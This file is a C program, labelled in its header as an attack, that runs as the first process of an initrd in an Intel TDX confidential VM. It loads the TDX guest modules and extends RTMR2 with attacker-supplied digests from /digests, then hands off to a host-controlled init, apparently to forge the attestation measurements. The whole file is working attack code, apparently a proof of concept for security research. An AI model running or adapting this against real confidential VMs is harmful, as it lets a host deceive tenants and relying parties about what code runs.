/*
 * Attack: a host's own first program of the initrd, under the genuine kernel. It extends RTMR2 by the digests in /digests, 48
 * bytes each, and then becomes /cvm-init, which has the host's own command line.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RTMR "/sys/devices/virtual/misc/tdx_guest/measurements/rtmr%c:sha384"

static void load(const char *module)
{
	int file = open(module, O_RDONLY);

	if (file < 0 || syscall(SYS_finit_module, file, "", 0))
		perror(module);
	close(file);
}

static void show(const char *when)
{
	for (char number = '1'; number <= '2'; number++) {
		unsigned char value[48] = { 0 };
		char path[99];
		int file;

		snprintf(path, sizeof(path), RTMR, number);
		file = open(path, O_RDONLY);
		printf("first-init: %s rtmr%c ", when, number);
		if (file < 0 || read(file, value, sizeof(value)) != sizeof(value))
			printf("unreadable ");
		close(file);
		for (unsigned int i = 0; i < sizeof(value); i++)
			printf("%02x", value[i]);
		printf("\n");
	}
}

int main(void)
{
	unsigned char digest[48];
	char path[99];
	int digests, console;

	mkdir("/sys", 0755);
	mkdir("/dev", 0755);
	mount("sysfs", "/sys", "sysfs", 0, 0);
	mount("devtmpfs", "/dev", "devtmpfs", 0, 0);
	console = open("/dev/console", O_RDWR);
	dup2(console, 1);
	dup2(console, 2);
	setvbuf(stdout, 0, _IOLBF, 0);
	load("/lib/modules/configfs.ko");
	load("/lib/modules/tsm_report.ko");
	load("/lib/modules/tdx-guest.ko");
	show("before");
	digests = open("/digests", O_RDONLY);
	snprintf(path, sizeof(path), RTMR, '2');
	while (read(digests, digest, sizeof(digest)) == sizeof(digest)) {
		int file = open(path, O_WRONLY);

		if (write(file, digest, sizeof(digest)) != sizeof(digest))
			perror("extend");
		close(file);
	}
	show("after");
	/* PID 1 makes its own mounts. */
	umount2("/dev", MNT_DETACH);
	umount2("/sys", MNT_DETACH);
	execl("/cvm-init", "/init", (char *)0);
	perror("/cvm-init");
	return 1;
}
